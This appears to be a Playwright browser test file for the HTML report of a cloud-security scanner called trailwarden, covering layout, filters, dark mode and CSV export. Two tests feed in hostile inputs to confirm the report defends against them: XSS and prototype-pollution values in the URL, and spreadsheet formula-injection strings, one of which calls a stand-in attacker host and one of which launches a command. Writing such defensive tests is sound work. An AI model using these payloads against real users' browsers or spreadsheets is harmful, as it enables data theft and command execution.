/**
 * What a reader of report.html acts on, in real headless Chromium (Debian's /usr/bin/chromium, or
 * CHROMIUM_PATH; SKIP_BROWSER_TESTS=1 where there is none): the demo organization's report as
 * `trailwarden scan --demo` writes it, opened at 1280×800.
 *
 * The first screen of it is kept as test-artifacts/html-first-screen.png (git-ignored; .ci/run
 * prints where it is).
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli-runner.js';
import { renderHtml } from '../../src/reporters/html.js';
import { SEVERITY_RANK, type Results } from '../../src/results.js';
import { XSS_FLAG } from '../fixtures/results-factory.js';
import { smallOrgResults } from './fixtures/small-org.js';
import { parseResultsJson } from '../support/results-json.js';
import { watchedPage } from '../support/report-page.js';

const ARTIFACTS = fileURLToPath(new URL('../../test-artifacts/', import.meta.url));
export const FIRST_SCREEN_PNG = path.join(ARTIFACTS, 'html-first-screen.png');
const VIEWPORT = { width: 1280, height: 800 };
const LAUNCH_ARGS = ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];

/** The few browser globals the page callbacks use; tsconfig has no DOM library, and should not get one for this file. */
interface Rect {
  top: number;
  bottom: number;
  left: number;
  right: number;
  height: number;
}
interface DomNode {
  textContent: string | null;
  className: string;
  getBoundingClientRect(): Rect;
  classList: { contains(name: string): boolean } & Iterable<string>;
}
interface BrowserGlobals {
  document: {
    querySelectorAll(selector: string): Iterable<DomNode & { firstChild: unknown }>;
    querySelector(selector: string): (DomNode & { scrollLeft: number; scrollTop: number; scrollWidth: number; clientWidth: number }) | null;
    createRange(): { selectNodeContents(node: unknown): void; getClientRects(): ArrayLike<Rect> };
    body: DomNode;
    documentElement: { scrollWidth: number; clientWidth: number };
  };
  getComputedStyle(node: unknown): { backgroundColor: string; color: string };
  scrollY: number;
  location: { hash: string };
}

/** RFC 4180: rows of cells, quoted cells with doubled quotes, CRLF between rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index]!;
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      cells.push(cell);
      cell = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      cells.push(cell);
      rows.push(cells);
      cells = [];
      cell = '';
      index += 1;
    } else cell += character;
  }
  if (cell !== '' || cells.length > 0) rows.push([...cells, cell]);
  return rows;
}

interface Opened {
  page: Page;
  problems: string[];
  dialogs: string[];
  network: string[];
}

describe.skipIf(process.env.SKIP_BROWSER_TESTS === '1')('report.html of the demo organization in Chromium', () => {
  let browser: Browser;
  const contexts: BrowserContext[] = [];
  let dir: string;
  let reportFile: string;
  let results: Results;
  let exitCode: number;

  beforeAll(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    dir = mkdtempSync(path.join(tmpdir(), 'trailwarden-html-'));
    const scan = await runCli(['scan', '--demo', '--out-dir', dir, '--format', 'json,html'], { now: new Date('2026-11-01T12:30:00Z') });
    exitCode = scan.code;
    if (exitCode !== 1) throw new Error(`the demo scan exited ${exitCode}, not 1:\n${scan.stderr}`);
    reportFile = path.join(dir, 'report.html');
    results = parseResultsJson(readFileSync(path.join(dir, 'results.json'), 'utf8'));
    browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', args: LAUNCH_ARGS });
  });

  afterAll(async () => {
    await Promise.all(contexts.map((context) => context.close()));
    await browser?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  async function open(url: string, options: { colorScheme?: 'light' | 'dark'; width?: number } = {}): Promise<Opened> {
    const context = await browser.newContext({ viewport: { ...VIEWPORT, width: options.width ?? VIEWPORT.width }, colorScheme: options.colorScheme ?? 'light', acceptDownloads: true });
    contexts.push(context);
    const { page, problems, dialogs, network } = await watchedPage(context, /^(file|data|blob):/);
    await page.goto(url);
    await page.waitForSelector('body[data-ready="true"]', { timeout: 60_000 });
    return { page, problems, dialogs, network };
  }

  const reportUrl = () => pathToFileURL(reportFile).href;

  /** Failing rules (unsuppressed) most severe first, then most failing resources: what "Fix first" must list. */
  function expectedTopRules(): string[] {
    const counts = new Map<string, number>();
    for (const finding of results.findings) if (finding.status === 'fail' && !finding.suppression) counts.set(finding.ruleId, (counts.get(finding.ruleId) ?? 0) + 1);
    const severity = new Map(results.rules.map((rule) => [rule.id, SEVERITY_RANK[rule.severity]]));
    return [...counts].sort(([a, x], [b, y]) => severity.get(b)! - severity.get(a)! || y - x).map(([id]) => id);
  }

  it('shows the gate verdict and the top failures on the first screen, and keeps a screenshot of it', async () => {
    const { page, problems, network } = await open(reportUrl());
    expect(problems).toEqual([]);
    expect(network).toEqual([]);
    await page.screenshot({ path: FIRST_SCREEN_PNG });
    const png = readFileSync(FIRST_SCREEN_PNG);
    // The PNG's IHDR: the screenshot is the viewport, 1280×800, not the full page.
    expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([VIEWPORT.width, VIEWPORT.height]);

    expect(await page.evaluate(() => (globalThis as unknown as BrowserGlobals).scrollY)).toBe(0);
    const inViewport = async (selector: string) => {
      const box = await page.locator(selector).boundingBox();
      expect(box, selector).not.toBeNull();
      expect(box!.y, selector).toBeGreaterThanOrEqual(0);
      expect(box!.y + box!.height, selector).toBeLessThanOrEqual(VIEWPORT.height);
      expect(box!.x + box!.width, selector).toBeLessThanOrEqual(VIEWPORT.width);
    };

    await inViewport('#gate');
    expect(await page.textContent('#gate .verdict-word')).toBe('Failed');
    expect(await page.textContent('#gate .verdict-threshold')).toBe('--fail-on high · exit code 1');
    const gating = results.findings.filter((f) => f.status === 'fail' && !f.suppression && SEVERITY_RANK[f.severity] >= SEVERITY_RANK.high).length;
    expect(await page.textContent('#gate .verdict-headline')).toBe(`${gating} failing findings at High severity or above`);

    const items = page.locator('#top-failures .top-item');
    expect(await items.count()).toBe(6);
    for (let index = 0; index < 6; index += 1) await inViewport(`#top-failures .top-item:nth-child(${index + 1})`);
    expect(await page.locator('#top-failures .top-item .rule-id').allTextContents()).toEqual(expectedTopRules().slice(0, 6));
    expect((await page.locator('#top-failures .top-item .sev').allTextContents())[0]).toBe('Critical');
    await inViewport('.incomplete');
  });

  it('opens the findings of a top failure from the first screen', async () => {
    const { page } = await open(reportUrl());
    await page.locator('#top-failures .top-rule').first().click();
    const rule = expectedTopRules()[0]!;
    expect(await page.inputValue('#filter-status')).toBe('fail');
    expect(await page.locator('#filter-rule option:checked').textContent()).toBe(rule);
    const failing = results.findings.filter((f) => f.ruleId === rule && f.status === 'fail').length;
    expect(await page.textContent('#result-count')).toBe(`${failing} of ${results.findings.length} findings match`);
    expect(page.url()).toContain(`#findings?status=fail&rule=${encodeURIComponent(rule)}`);
  });

  it('orders the rules and the matrix accounts by severity', async () => {
    const { page } = await open(reportUrl());
    const severities = await page.locator('#rules details.rule > summary .sev').allTextContents();
    const ranks = severities.map((label) => SEVERITY_RANK[label.toLowerCase() as keyof typeof SEVERITY_RANK]);
    expect(ranks.length).toBe(results.rules.length);
    expect(ranks).toEqual([...ranks].sort((a, b) => b - a));
    const heads = await page.locator('.matrix thead .rule-head').evaluateAll((nodes) => nodes.map((node) => (node as unknown as DomNode).className));
    const headRanks = heads.map((name) => SEVERITY_RANK[/sev-edge-(\w+)/.exec(name)![1] as keyof typeof SEVERITY_RANK]);
    expect(headRanks).toEqual([...headRanks].sort((a, b) => b - a));
  });

  it('keeps the filters in the URL and restores them on load, ignoring hostile values', async () => {
    const first = await open(reportUrl());
    const rule = expectedTopRules()[1]!;
    const account = results.findings.find((f) => f.ruleId === rule && f.status === 'fail')!.resource.accountId;
    const ruleValue = await first.page.locator('#filter-rule option', { hasText: new RegExp(`^${rule.replace('/', '\\/')}$`) }).getAttribute('value');
    await first.page.selectOption('#filter-rule', ruleValue!);
    await first.page.selectOption('#filter-status', 'fail');
    const accountValue = await first.page.locator('#filter-account option', { hasText: account }).getAttribute('value');
    await first.page.selectOption('#filter-account', accountValue!);
    await first.page.fill('#filter-query', 'trail bucket');
    await first.page.waitForFunction(() => (globalThis as unknown as BrowserGlobals).location.hash.includes('q='));
    const url = first.page.url();
    expect(new URL(url).hash).toBe(`#findings?q=trail+bucket&status=fail&rule=${encodeURIComponent(rule)}&account=${account}`);
    const count = await first.page.textContent('#result-count');

    const second = await open(url);
    expect(await second.page.inputValue('#filter-query')).toBe('trail bucket');
    expect(await second.page.inputValue('#filter-status')).toBe('fail');
    expect(await second.page.inputValue('#filter-rule')).toBe(ruleValue);
    expect(await second.page.inputValue('#filter-account')).toBe(accountValue);
    expect(await second.page.textContent('#result-count')).toBe(count);
    expect(second.problems).toEqual([]);

    // Reset clears the fragment's filters.
    await second.page.click('#filter-reset');
    await second.page.waitForFunction(() => !(globalThis as unknown as BrowserGlobals).location.hash.includes('?'));

    const hostile = `<img src=x onerror="globalThis.${XSS_FLAG}=1">`;
    const params = new URLSearchParams({ q: hostile, status: '"><script>alert(1)</script>', rule: '__proto__', account: 'constructor', region: '<svg/onload=alert(1)>', severity: 'toString', framework: '__proto__' });
    const third = await open(`${reportUrl()}#findings?${params.toString()}`);
    expect(await third.page.inputValue('#filter-query')).toBe(hostile);
    for (const filter of ['status', 'rule', 'account', 'region', 'severity', 'framework']) expect(await third.page.inputValue(`#filter-${filter}`), filter).toBe('');
    expect(await third.page.evaluate((flag) => (globalThis as unknown as Record<string, unknown>)[flag], XSS_FLAG)).toBeUndefined();
    expect(third.dialogs).toEqual([]);
    expect(third.problems).toEqual([]);
    expect(await third.page.locator('img, svg[onload]').count()).toBe(0);
    expect(await third.page.locator('script').count()).toBe(2);
    expect(await third.page.textContent('#result-count')).toBe(`0 of ${results.findings.length} findings match`);
  });

  it('exports the filtered rows as CSV, with formulas neutralized', async () => {
    const hostile = smallOrgResults();
    const target = hostile.findings.find((f) => f.status === 'fail' && f.resource.type !== 'account')!;
    target.message = '=HYPERLINK("http://attacker.example/?x="&A1,"click")';
    target.resource = { ...target.resource, name: '+cmd|" /C calc"!A0' };
    const file = path.join(dir, 'csv.html');
    writeFileSync(file, renderHtml(hostile));
    const { page, network } = await open(pathToFileURL(file).href);
    await page.selectOption('#filter-status', 'fail');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
    expect(download.suggestedFilename()).toBe('trailwarden-findings.csv');
    const csv = readFileSync(await download.path(), 'utf8');
    expect(network).toEqual([]);
    // The columns of results.csv (--format csv) that the page has, under the same names.
    expect(csv.startsWith('\ufeffrule_id,rule_title,status,severity,account_id,account_name,region,resource_type,resource_arn,resource_name,message,frameworks,suppressed,suppression_reason,suppression_expires\r\n')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    const failing = hostile.findings.filter((f) => f.status === 'fail');
    expect(rows.length - 1).toBe(failing.length);
    expect(rows.every((cells) => cells.length === 15)).toBe(true);
    expect(rows.slice(1).map((cells) => cells[2])).toEqual(failing.map(() => 'fail'));
    const row = rows.find((cells) => cells.some((cell) => cell.includes('HYPERLINK')))!;
    expect(row[10]).toBe(`'=HYPERLINK("http://attacker.example/?x="&A1,"click")`);
    expect(row[9]).toBe(`'+cmd|" /C calc"!A0`);
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""click"")"`);
    // No cell of the file starts a formula.
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // An account's row carries its ARN: the export is data, not the page's wording.
    const accountFinding = failing.find((f) => f.resource.type === 'account');
    if (accountFinding) expect(rows.map((cells) => cells[8])).toContain(accountFinding.resource.arn);
  });

  it('follows prefers-color-scheme: dark', async () => {
    const light = await open(reportUrl(), { colorScheme: 'light' });
    const dark = await open(reportUrl(), { colorScheme: 'dark' });
    const colors = (page: Page) =>
      page.evaluate(() => {
        const { document, getComputedStyle } = (globalThis as unknown as BrowserGlobals);
        return { body: getComputedStyle(document.body).backgroundColor, card: getComputedStyle(document.querySelector('.card')).backgroundColor, ink: getComputedStyle(document.body).color };
      });
    const [lightColors, darkColors] = [await colors(light.page), await colors(dark.page)];
    expect(lightColors.body).toBe('rgb(241, 245, 249)');
    expect(darkColors.body).not.toBe(lightColors.body);
    expect(darkColors.card).not.toBe(lightColors.card);
    const luminance = (rgb: string) => rgb.match(/\d+/g)!.slice(0, 3).map(Number).reduce((sum, value) => sum + value, 0);
    expect(luminance(darkColors.body)).toBeLessThan(100);
    expect(luminance(darkColors.ink)).toBeGreaterThan(500);
    await light.page.emulateMedia({ colorScheme: 'dark' });
    expect((await colors(light.page)).body).toBe(darkColors.body);
    expect(dark.problems).toEqual([]);
  });

  it('shows every failing rule in the matrix, with every symbol and colour in its legend, scrolling under sticky headers', async () => {
    const { page } = await open(reportUrl());
    const columns = await page.locator('.matrix thead .rule-head span').allTextContents();
    const failingRules = new Set(results.findings.filter((f) => f.status === 'fail' && !f.suppression).map((f) => f.ruleId));
    for (const rule of failingRules) expect(columns, rule).toContain(rule);

    const legend = await page.evaluate(() => {
      const { document } = (globalThis as unknown as BrowserGlobals);
      const classes = (selector: string, prefix: string) => new Set([...document.querySelectorAll(selector)].flatMap((node) => [...node.classList].filter((name) => name.startsWith(prefix))));
      const samples = [...document.querySelectorAll('#matrix .legend .cell-sample')];
      return {
        cellStates: [...classes('.matrix tbody td.cell', 'state-')],
        legendStates: [...classes('#matrix .legend .cell-sample', 'state-')],
        edges: [...classes('.matrix thead .rule-head', 'sev-edge-')],
        legendEdges: [...classes('#matrix .legend .edge-sample', 'sev-edge-')],
        symbols: [...new Set([...document.querySelectorAll('.matrix tbody td.cell')].map((node) => (node.textContent ?? '').trim()))],
        legendSymbols: samples.map((node) => node.textContent ?? ''),
      };
    });
    expect(legend.cellStates.length).toBeGreaterThanOrEqual(4);
    for (const state of legend.cellStates) expect(legend.legendStates, state).toContain(state);
    for (const edge of legend.edges) expect(legend.legendEdges, edge).toContain(edge);
    for (const symbol of legend.symbols) expect(/^\d+$/.test(symbol) || legend.legendSymbols.includes(symbol), `symbol ${JSON.stringify(symbol)}`).toBe(true);

    // The page itself never scrolls sideways: the matrix scrolls inside its card, its headers stay.
    expect(await page.evaluate(() => (globalThis as unknown as BrowserGlobals).document.documentElement.scrollWidth)).toBeLessThanOrEqual(VIEWPORT.width);
    const scroller = page.locator('.matrix-scroll');
    await scroller.scrollIntoViewIfNeeded();
    const before = { corner: (await page.locator('.matrix-corner').boundingBox())!, account: (await page.locator('.matrix-account').first().boundingBox())!, head: (await page.locator('.matrix-rule').first().boundingBox())! };
    await scroller.evaluate((node) => {
      const element = node as unknown as { scrollLeft: number; scrollTop: number };
      element.scrollLeft = 10_000;
      element.scrollTop = 10_000;
    });
    const scrolled = await scroller.evaluate((node) => (node as unknown as { scrollLeft: number }).scrollLeft);
    expect(scrolled).toBeGreaterThan(0);
    expect((await page.locator('.matrix-corner').boundingBox())!.x).toBeCloseTo(before.corner.x, 0);
    expect((await page.locator('.matrix-account').first().boundingBox())!.x).toBeCloseTo(before.account.x, 0);
    expect((await page.locator('.matrix-rule').first().boundingBox())!.x).toBeLessThan(before.head.x);
  });

  it.each([1280, 900])('never wraps an account id (%i px wide)', async (width) => {
    const { page } = await open(reportUrl(), { width });
    const lines = await page.evaluate(() => {
      const { document } = (globalThis as unknown as BrowserGlobals);
      const shown: { text: string; lines: number }[] = [];
      for (const node of document.querySelectorAll('#errors .account-id-text, .matrix-account .account-id, #findings-body .cell-account .mono, #findings-body .cell-account .sub')) {
        const range = document.createRange();
        range.selectNodeContents(node.firstChild);
        shown.push({ text: node.textContent ?? '', lines: new Set([...Array.from(range.getClientRects())].map((rect) => Math.round(rect.top))).size });
      }
      return shown;
    });
    const ids = lines.filter((entry) => /^\d{12}$/.test(entry.text));
    expect(ids.length).toBeGreaterThan(20);
    expect(lines.filter((entry) => entry.lines !== 1)).toEqual([]);
    expect(await page.locator('#errors .account-id-text').count()).toBeGreaterThan(5);
  });

  it('shows an account as "account ID (name)", never as its :root ARN', async () => {
    const { page } = await open(reportUrl());
    const accountFinding = results.findings.find((f) => f.resource.type === 'account')!;
    expect(accountFinding.resource.arn).toMatch(/:root$/);
    await page.fill('#filter-query', accountFinding.ruleId);
    await page.waitForFunction(() => (globalThis as unknown as BrowserGlobals).document.querySelector('#result-count')?.textContent?.includes('match'));
    await page.selectOption('#page-size', '250');
    const arns = await page.locator('#findings-body .cell-resource .arn').allTextContents();
    expect(arns.length).toBeGreaterThan(0);
    expect(arns.filter((arn) => arn.endsWith(':root'))).toEqual([]);
    const name = results.accounts.find((account) => account.id === accountFinding.resource.accountId)?.name;
    expect(arns).toContain(`account ${accountFinding.resource.accountId}${name ? ` (${name})` : ''}`);
  });
});
